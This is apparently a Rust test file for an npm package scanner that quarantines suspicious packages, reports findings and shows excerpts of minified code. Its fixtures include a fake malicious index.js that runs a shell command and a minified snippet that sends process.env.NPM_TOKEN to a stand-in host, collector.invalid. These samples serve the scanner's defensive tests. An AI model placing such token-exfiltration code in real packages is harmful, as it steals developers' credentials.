use super::*;
use lazaret_analysis::{Outcome, Severity};
use lazaret_inspector::{Deadly, worker};

/// What a worker would answer, and its notes.
fn asked(request: &Request<'_>) -> (Answer, Vec<String>) {
    let encoded = request.encoded().unwrap();
    let mut notes = Vec::new();
    let answer = worker::answer(&encoded.pieces().concat(), &mut |note| {
        notes.push(String::from_utf8(note.to_vec()).unwrap());
    });
    (answer, notes)
}

fn files(files: &[(&str, &str)]) -> Vec<(String, Vec<u8>)> {
    let owned = |(path, text): &(&str, &str)| ((*path).to_owned(), text.as_bytes().to_vec());
    files.iter().map(owned).collect()
}

fn given(files: &[(String, Vec<u8>)]) -> Given<'_> {
    Given {
        content: Content::Files(files),
        manifest: None,
        incomplete: &[],
        published: false,
    }
}

fn request(packages: Vec<Given<'_>>) -> Request<'_> {
    Request {
        packages,
        history: None,
        excerpts: false,
        deadly: Vec::new(),
    }
}

fn input(name: &str) -> Input {
    Input {
        input: name.to_owned(),
        ..Input::default()
    }
}

#[test]
fn a_file_that_kills_is_left_out_and_the_rest_is_told() {
    let package = files(&[
        ("package.json", "{\"name\":\"a\"}"),
        ("index.js", "require('child_process').exec('id')"),
        (
            "deadly.js",
            "require('http').get('http://collector.invalid/')",
        ),
    ]);
    let deadly = Deadly {
        package: 0,
        file: "deadly.js".to_owned(),
        why: "the worker panicked".to_owned(),
    };
    let (answer, _) = asked(&Request {
        deadly: vec![deadly],
        ..request(vec![given(&package)])
    });
    let document = Document::of(Ok(answer), vec![input("a")]);
    let [incomplete] = document.incomplete() else {
        panic!("{:?}", document.incomplete());
    };
    assert_eq!(incomplete.file.as_deref(), Some("deadly.js"));
    assert_eq!(incomplete.why, "the worker panicked");
    assert_eq!(document.judgement().outcome, Outcome::Quarantine);
    let findings = document.findings();
    let has = |file: &str| findings.iter().any(|seen| seen.finding.place.file == file);
    assert!(has("index.js") && !has("deadly.js"));
}

#[test]
fn bytes_that_are_no_archive_are_no_package_unless_a_registry_has_them() {
    let given = |published| Given {
        content: Content::Tarball(b"just text"),
        manifest: None,
        incomplete: &[],
        published,
    };
    let (answer, _) = asked(&request(vec![given(false)]));
    let document = Document::of(Ok(answer), vec![input("a.tgz")]);
    assert!(document.is_nothing);
    assert_eq!(document.judgement().outcome, Outcome::Quarantine);

    let (answer, _) = asked(&request(vec![given(true)]));
    let document = Document::of(Ok(answer), vec![input("a@1.0.0")]);
    assert!(!document.is_nothing);
    assert_eq!(document.judgement().outcome, Outcome::Quarantine);
    assert!(!document.incomplete().is_empty());
}

#[test]
fn minified_code_is_shown_round_what_was_found() {
    let filler = "function q(a){return a.b?a.c(1,2,3):a.d[4]}".repeat(100);
    let code = format!(
        "{filler}!function(){{var t=process.env;fetch(\"https://collector.invalid/\"+t.NPM_TOKEN)}}();"
    );
    let package = files(&[("package.json", "{\"name\":\"a\"}"), ("index.js", &code)]);
    let (answer, _) = asked(&Request {
        excerpts: true,
        ..request(vec![given(&package)])
    });
    let document = Document::of(Ok(answer), vec![input("a")]);
    let findings = document.findings();
    let shown = findings
        .iter()
        .filter(|seen| seen.finding.severity >= Severity::Medium)
        .find_map(|seen| document.excerpt(seen.finding));
    let code = shown.expect("an excerpt");
    assert!(code.contains("var t = process.env;\n"), "{code}");
}

#[test]
fn a_worker_without_an_answer_holds_the_package() {
    let unfinished = |package| Unfinished {
        package,
        file: Some("lib/deep.js".to_owned()),
        why: "the worker's stack overflowed".to_owned(),
        surroundings: false,
    };
    let one = Document::of(Err(unfinished(0)), vec![input("@scope/a@1.0.0")]);
    assert_eq!(one.id(), ("@scope/a", "1.0.0"));
    assert_eq!(one.judgement().outcome, Outcome::Quarantine);
    assert_eq!(
        one.judgement().reasons,
        ["lib/deep.js could not be inspected to its end: the worker's stack overflowed"]
    );
    let two = Document::of(Err(unfinished(0)), vec![input("a.tgz"), input("b.tgz")]);
    assert_eq!(
        two.incomplete()[0].why,
        "a.tgz: the worker's stack overflowed"
    );
    assert!(two.incomplete()[0].matters);
}
